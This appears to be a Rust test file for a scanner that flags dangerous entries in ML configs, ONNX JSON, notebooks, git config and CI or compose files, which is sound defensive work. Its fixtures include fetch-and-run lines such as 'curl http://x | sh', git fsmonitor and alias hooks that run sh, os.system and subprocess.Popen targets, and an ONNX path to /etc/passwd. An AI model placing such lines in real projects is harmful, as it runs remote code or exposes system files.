use super::notebook;
use super::tests::{clean, has, read};

// proves M10
#[test]
fn classes_that_servers_and_sentence_models_import_are_told() {
    clean("config.json", r#"{"activation_function":"gelu_new"}"#);
    clean(
        "config.json",
        r#"{"activation_function":"torch.nn.modules.activation.Tanh","in_features":4}"#,
    );
    has("config.json", r#"{"activation_function":"os.system"}"#, "target-dangerous");
    has(
        "config.json",
        r#"{"sentence_transformers":{"activation_fn":"subprocess.Popen"}}"#,
        "target-dangerous",
    );
    let router = |kind: &str| format!(r#"{{"types":{{"query_0":"{kind}"}}}}"#);
    clean("router_config.json", &router("sentence_transformers.models.Transformer"));
    has("router_config.json", &router("os.system"), "target-dangerous");
    let server = |kind: &str| format!(r#"{{"name":"m","implementation":"{kind}"}}"#);
    clean("model-settings.json", &server("mlserver_sklearn.SKLearnModel"));
    has("model-settings.json", &server("acme.Runtime"), "target-unknown");
    has("config.gin", "import os\nmain.f = @os.system()\n", "target-dangerous");
    has("config", "_target_: os.system\n", "target-dangerous");
    has("config.json5", "{_target_: 'os.system'}", "target-dangerous");
}

// proves M10
#[test]
fn commands_that_tools_run_are_told_by_what_they_do() {
    clean("dvc.yaml", "stages:\n  train:\n    cmd: python train.py\n    deps: [data]\n");
    clean(".git/config", "[core]\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n");
    clean("notes.txt", "class_path: see the documents, _target_: see below\n");
    clean(".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n");
    for (name, text) in [
        ("MLproject", "entry_points:\n  main:\n    command: curl http://x | sh\n"),
        ("docker-compose.yml", "services:\n  a:\n    command: sh -c 'curl http://x | sh'\n"),
        (".gitlab-ci.yml", "a:\n  script:\n  - wget http://x\n"),
        ("tasks.json", r#"{"tasks":[{"command":"curl http://x | sh"}]}"#),
        (".git/config", "[core]\n\tfsmonitor = sh -c true\n"),
        (".git/config", "[core]\n[filter \"x\"]\n\tclean = true.sh\n"),
        (".git/config", "[core]\n[alias]\n\tst = !sh\n"),
    ] {
        has(name, text, "script-reaches");
    }
    has(".bashrc", "ls -l\n", "script");
}

// proves M10
#[test]
fn toml_and_programs_of_export_are_told_by_what_they_call() {
    clean("a.toml", "[model]\n_target_ = \"torch.nn.Linear\"\ndim = 8\n");
    has("a.toml", "[model]\n_target_ = \"os.system\"\n", "target-dangerous");
    has("a.toml", "m = { \"_target_\" = 'os.system' }\n", "target-dangerous");
    clean(
        "model.json",
        r#"{"nodes":[{"target":"torch.ops.aten.linear.default"},{"target":"_operator.add"}]}"#,
    );
    for target in [
        "torch.ops.evil.run.default",
        "torch.hub.load",
        "os.system",
        "_operator.methodcaller",
        "torch.ops.load_library",
    ] {
        let text = format!(r#"{{"nodes":[{{"target":"{target}"}}]}}"#);
        assert!(!read("model.json", &text).is_clean(), "{target}");
    }
}

// proves M10
#[test]
fn onnx_in_other_forms_is_told_by_the_files_and_operators_that_it_needs() {
    clean(
        "m.json",
        r#"{"irVersion":"10","graph":{"node":[{"opType":"Add","domain":""}]},"opsetImport":[{"version":"17"}]}"#,
    );
    has(
        "m.onnxjson",
        r#"{"graph":{"initializer":[{"externalData":[{"key":"location","value":"/etc/passwd"}]}]}}"#,
        "onnx-external-path",
    );
    has("m.json", r#"{"graph":{"node":[{"domain":"evil.ops"}]}}"#, "onnx-custom-domain");
    has(
        "m.json",
        r#"{"graph":{"node":[{"opType":"EPContext","domain":"com.microsoft"}]}}"#,
        "onnx-custom-domain",
    );
    has("m.json", r#"{"opsetImport":[{"domain":"evil.ops"}]}"#, "onnx-custom-domain");
    has("m.json", r#"{"opset_import":[{"domain":"evil.ops"}]}"#, "onnx-custom-domain");
    has(
        "m.json",
        r#"{"graph":{"initializer":[{"external_data":[{"key":"location","value":"../w"}]}]}}"#,
        "onnx-external-path",
    );
    assert!(!read("m.textproto", "ir_version: 10\nopset_import {\n version: 17\n}\n").is_clean());
}

// proves M10
#[test]
fn cells_that_import_by_another_name_or_install_from_elsewhere_are_told() {
    for cell in [
        "from os import system as s\ns('true')",
        "%pip install --index-url https://x.example y",
        "%alias t true",
        "!pip install -f x y",
    ] {
        let book =
            serde_json::json!({"cells": [{"cell_type": "code", "source": [cell]}]}).to_string();
        let reading = notebook("a.ipynb", book.as_bytes()).unwrap();
        assert!(!reading.is_clean(), "{cell}");
    }
    let book = serde_json::json!({"cells": [{"cell_type": "code", "source": "%pip install numpy\nmodel.eval()"}]});
    assert!(notebook("a.ipynb", book.to_string().as_bytes()).unwrap().is_clean());
}
